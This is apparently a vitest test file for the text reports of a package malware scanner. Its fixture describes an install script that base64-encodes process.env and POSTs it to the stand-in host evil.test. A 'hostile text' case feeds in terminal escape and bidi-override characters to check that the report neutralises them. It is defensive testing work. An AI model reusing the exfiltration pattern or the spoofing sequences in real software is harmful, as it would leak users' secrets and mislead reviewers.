import { stripVTControlCharacters } from 'node:util';
import { describe, expect, test } from 'vitest';
import { printable } from '../../src/report/printable.ts';
import { toText } from '../../src/report/text.ts';
import { report } from '../store/report.ts';
import { threat } from './threat.ts';

const rejected = report({
  riskScore: 9.6,
  riskLevel: 'CRITICAL',
  verdict: 'REJECT',
  target: 'left-pad-2.0.0.tgz',
  threats: [threat()],
  breakdown: [
    { score: 9.6, because: 'The environment is sent to a foreign host. Decisive on its own.', threats: ['thr_001'] },
  ],
});

test('a rejection: verdict and why first, then the finding with its way', () => {
  expect(toText(rejected, { color: false })).toBe(`REJECT  left-pad-2.0.0.tgz  9.6 of 10 CRITICAL — do not use it
  The environment is sent to a foreign host. Decisive on its own.

CRITICAL The environment is sent to a foreign host
  lib/setup.js:12:3  data-exfiltration/env-dump, 95 % sure, runs: install
  process.env is posted to evil.test when the package is installed
  | fetch(url, { method: "POST", body: data })
    → reads the whole environment (line 4)
    → encodes it as base64 (lib/encode.js:2)
      decoded: https://evil.test
    → sends it to evil.test (line 12)
  fix Do not install it; rotate what the machine knew.

1 of 1 file looked at in 1 ms
`);
});

test('an approval is four lines', () => {
  expect(toText(report(), { color: false })).toBe(`APPROVE  submission  0.0 of 10 SAFE — nothing that should stop you
  No finding.

1 of 1 file looked at in 1 ms
`);
});

test('a download says where it came from, and what its registry says of it', () => {
  const registry = {
    ecosystem: 'npm',
    name: 'a',
    readAt: '2026-01-02T00:00:00Z',
    publishedAt: '2026-01-01T10:00:00Z',
    publisher: 'jo',
    deprecated: 'old',
  } as const;
  const resolvedUrl = 'https://packages.test/a/-/a-1.0.0.tgz';
  const source = { type: 'npm', requestedUrl: 'npm:a', resolvedUrl, registry, files: [], truncated: false } as const;
  const [, second] = toText(report({ source }), { color: false }).split('\n');
  expect(second).toBe(`  from ${resolvedUrl} (published 2026-01-01, by jo, deprecated)`);
  const pinned = { ...source, revision: '4f2a9c1' };
  expect(toText(report({ source: pinned }), { color: false })).toContain(`from ${resolvedUrl} at 4f2a9c1 (`);
});

test('gaps are named', () => {
  const coverage = {
    complete: false,
    filesTotal: 9,
    filesScanned: 1,
    skipped: Array.from({ length: 6 }, (_, index) => ({
      path: `big${index}.bin`,
      reason: 'too-large',
      detail: 'larger than 5 bytes',
    })),
    failures: [{ stage: 'parse' as const, code: 'syntax-error', message: 'Unexpected token', path: 'a.js', line: 7 }],
  };
  const text = toText(report({ coverage, verdict: 'REVIEW', riskScore: 4, riskLevel: 'MEDIUM' }), { color: false });
  expect(text).toContain('1 of 9 files looked at');
  expect(text).toContain('Not looked at: 7 gaps\n  big0.bin: too-large (larger than 5 bytes)\n');
  expect(text).toContain('… and 2 more; --verbose shows all');
  expect(toText(report({ coverage }), { color: false, verbose: true })).toContain('a.js:7: Unexpected token');
});

test('many findings are cut to a screen and counted; drafts are apart', () => {
  const threats = [
    ...Array.from({ length: 14 }, (_, index) =>
      threat({ id: `thr_${index}`, evidence: [], title: `Finding ${index}` }),
    ),
    threat({ severity: 'INFO', title: 'A note' }),
    threat({ draft: true, title: 'On trial' }),
  ];
  const text = toText(report({ threats }), { color: false });
  expect(text.match(/^CRITICAL /gm)).toHaveLength(10);
  expect(text).toContain('… and 5 lesser findings; --verbose shows all');
  expect(text).toContain('1 finding of rules on trial not counted');
  const all = toText(report({ threats }), { color: false, verbose: true });
  expect(all).toContain('A note');
  expect(all).toContain('On trial (rule on trial)');
  expect(all).not.toContain('--verbose');
});

test('the middle of a long way is left out', () => {
  const evidence = Array.from({ length: 30 }, (_, index) => ({
    file: 'lib/setup.js',
    line: index + 1,
    column: 1,
    what: `step ${index + 1}`,
  }));
  const steps = toText(report({ threats: [threat({ evidence })] }), { color: false })
    .split('\n')
    .filter((line) => /→|…/.test(line));
  expect(steps).toEqual([
    '    → step 1 (line 1)',
    '    → step 2 (line 2)',
    '    … 26 more steps',
    '    → step 29 (line 29)',
    '    → step 30 (line 30)',
  ]);
});

describe('hostile text', () => {
  const hostile = '\u001b[2J\u001b[HAPPROVE\r\nAPPROVE \u202Egnp.exe\u200B\u0007\u{E0041}\uD800';

  test('cannot move the cursor, colour, reorder or add lines', () => {
    const text = toText(
      report({
        target: hostile,
        threats: [
          threat({
            title: hostile,
            description: hostile,
            file: hostile,
            snippet: hostile,
            remediation: hostile,
            evidence: [{ file: hostile, line: 1, column: 1, what: hostile, decoded: hostile }],
          }),
        ],
        breakdown: [{ score: 9, because: hostile, threats: [] }],
        coverage: {
          complete: false,
          filesTotal: 1,
          filesScanned: 0,
          skipped: [{ path: hostile, reason: 'too-large', detail: hostile }],
          failures: [],
        },
      }),
      { color: false },
    );
    expect(text).not.toMatch(/[^\P{Cc}\n]|\p{Cf}|\p{Cs}/u);
    expect(text.split('\n').some((line) => line.startsWith('APPROVE \\u'))).toBe(false);
  });

  test('is shown as code points, and cut', () => {
    expect(printable('a\u001b[1mb\u202Ec')).toBe('a\\u{1b}[1mb\\u{202e}c');
    expect(printable('x'.repeat(300), 10)).toBe('xxxxxxxxx…');
  });
});

test('colours add nothing but colours', () => {
  const coloured = toText(rejected, { color: true });
  expect(coloured).toContain('\u001b[31m');
  expect(stripVTControlCharacters(coloured)).toBe(toText(rejected, { color: false }));
});
